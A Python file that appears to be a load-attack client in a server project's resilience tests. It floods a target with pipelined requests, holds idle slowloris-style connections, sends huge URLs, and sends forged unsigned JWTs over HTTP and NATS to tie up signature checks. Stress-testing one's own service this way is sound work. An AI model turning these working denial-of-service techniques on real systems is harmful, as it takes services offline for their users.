"""A client that attacks: a process of its own, which spends as little as it can on that."""

# Bytes are made before the attack begins, sockets are bare, and of answers only what they begin
# with is looked at: what an attacker spends on a machine with two cores, honest callers do not get.

from __future__ import annotations

import base64
import json
import os
import selectors
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from itertools import cycle
from urllib.parse import urlsplit

ISSUER = "https://people.example"  # as responder.dev.tokens has it, which takes a while to import
TOKENS = 4_000  # that are made beforehand, and sent again and again
READ = 1024 * 1024  # bytes
TICK = 0.01  # seconds
Address = tuple[str, int]


def _segment(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def token(kid: str = "") -> str:
    """Return a token that nobody has signed; without a key id, of a key that nobody has."""
    header = {"alg": "EdDSA", "kid": kid or _segment(os.urandom(12))}
    claims = {"sub": _segment(os.urandom(12)), "iss": ISSUER, "aud": ISSUER}
    times = {"iat": int(time.time()), "exp": int(time.time()) + 900}
    parts = [_segment(json.dumps(each).encode()) for each in (header, {**claims, **times})]
    # A signature whose last byte is large would be refused without a look at it.
    return ".".join([*parts, _segment(os.urandom(63) + b"\0")])


def pour(at: Address, connections: int, data: bytes) -> Iterator[int]:
    """Send without ever reading, on so many connections; yields how many requests were sent."""
    chunk = data * (READ // 4 // len(data) or 1)
    sockets: dict[socket.socket, int] = {}
    sent = 0
    while True:
        before = sent // len(data)
        while len(sockets) < connections:
            sockets[_connected(at)] = 0
        for each, start in list(sockets.items()):
            try:
                size = each.send(memoryview(chunk)[start:])
            except BlockingIOError:
                continue
            except OSError:
                each.close()
                del sockets[each]
                continue
            sockets[each] = (start + size) % len(chunk)
            sent += size
        yield sent // len(data) - before
        time.sleep(0.001)


def repeat(at: Address, connections: int, requests: Iterator[bytes]) -> Iterator[int]:
    """Send a request on each connection as soon as the last one is answered; yields answers."""
    selector = selectors.DefaultSelector()

    def begin() -> None:
        sock = _connected(at)
        selector.register(sock, selectors.EVENT_READ)
        _send(sock, next(requests))

    for _ in range(connections):
        begin()
    while True:
        answered = 0
        for key, _ in selector.select(TICK):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            data = b""
            with suppress(OSError):
                data = sock.recv(READ)
            answered += data.startswith(b"HTTP/1.1 ")
            if data and b"onnection: close" not in data:
                _send(sock, next(requests))
            else:
                selector.unregister(sock)
                sock.close()
                begin()
        yield answered


def hold(at: Address, connections: int) -> Iterator[int]:
    """Hold so many connections on which nothing is sent; open others for those that are closed."""
    held: list[socket.socket] = []
    while True:
        opened = 0
        alive = []
        for each in held:
            try:
                open_ = each.recv(1) != b""
            except BlockingIOError:
                open_ = True
            except OSError:
                open_ = False
            if open_:
                alive.append(each)
            else:
                each.close()
        held = alive
        while len(held) < connections:
            held.append(_connected(at))
            opened += 1
        yield opened
        time.sleep(0.1)


def publish(at: Address, rate: int, tokens: list[str]) -> Iterator[int]:
    """Send so many requests with a token each second over NATS; yields how many were sent."""
    inbox = f"_INBOX.{os.urandom(11).hex()}"
    messages = []
    for number, each in enumerate(tokens):
        head = f"NATS/1.0\r\nAuthorization: Bearer {each}\r\n\r\n"
        sizes = f"{len(head)} {len(head) + 1}"
        messages.append(f"HPUB users.get {inbox}.{number} {sizes}\r\n{head}x\r\n".encode())
    sock = _connected(at)
    sock.setblocking(True)
    options = json.dumps({"verbose": False, "headers": True})
    sock.sendall(f"CONNECT {options}\r\nSUB {inbox}.* 1\r\n".encode())
    sock.setblocking(False)
    began, sent = time.monotonic(), 0
    rest = memoryview(b"")
    while True:
        before = sent
        if not rest:
            due = int((time.monotonic() - began) * rate)
            rest = memoryview(b"".join(messages[n % len(messages)] for n in range(sent, due)))
            sent = due
        with suppress(BlockingIOError):
            rest = rest[sock.send(rest) :] if rest else rest
        with suppress(BlockingIOError):
            ANSWERED["401"] += (data := sock.recv(READ)).count(b"-Code: 401")
            ANSWERED["503"] += data.count(b"-Code: 503")
        yield sent - before
        time.sleep(TICK / 2)


ANSWERED: Counter[str] = Counter()


def _connected(at: Address) -> socket.socket:
    sock = socket.create_connection(at)
    sock.setblocking(False)
    return sock


def _send(sock: socket.socket, data: bytes) -> None:
    with suppress(OSError):  # the server may have closed, or read no further
        sock.send(data)


def _get(target: str, headers: str = "") -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: x\r\n{headers}\r\n".encode()


def _with_tokens() -> Iterator[bytes]:
    every = [_get("/api/v1/me", f"Authorization: Bearer {token()}\r\n") for _ in range(TOKENS)]
    return cycle(every)


def _ask_for(target: str, at: Address, connections: int, _: str) -> Iterator[int]:
    return repeat(at, connections, cycle([_get(target)]))


LONG = {
    "long-query": f"/api/v1/users/x?{'a&' * 30_000}",
    "long-path": f"/api/v1/users/{'%01' * 20_000}",
    "query-of-8-kB": f"/api/v1/users/x?{'a&' * 4_000}",
    "path-of-8-kB": f"/api/v1/users/{'%01' * 2_700}",
}
# By name: given where, how much, and the id of a key that is known.
KINDS: dict[str, Callable[[Address, int, str], Iterator[int]]] = {
    "pipelined": lambda at, n, _: pour(at, n, b"GET / HTTP/1.1\r\n\r\n"),
    "pipelined-with-host": lambda at, n, _: pour(at, n, _get("/")),
    **{name: partial(_ask_for, target) for name, target in LONG.items()},
    "held": lambda at, n, _: hold(at, n),
    "unknown-keys-nats": lambda at, n, _: publish(at, n, [token() for _ in range(TOKENS)]),
    "unknown-keys-http": lambda at, n, _: repeat(at, n, _with_tokens()),
    "bad-signatures": lambda at, n, kid: publish(at, n, [token(kid) for _ in range(TOKENS)]),
}


def main(kind: str, url: str, amount: str, kid: str) -> None:
    """Attack until standard input ends; then print what was done, a second, and how answered."""
    at = urlsplit(url)
    attack = KINDS[kind]((at.hostname or "", at.port or 0), int(amount), kid)
    done = next(attack)
    print("attacking", flush=True)
    ended = selectors.DefaultSelector()
    ended.register(sys.stdin, selectors.EVENT_READ)
    began = time.monotonic()
    while not ended.select(0):
        done += next(attack)
    print(json.dumps({"done": done / (time.monotonic() - began), **ANSWERED}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
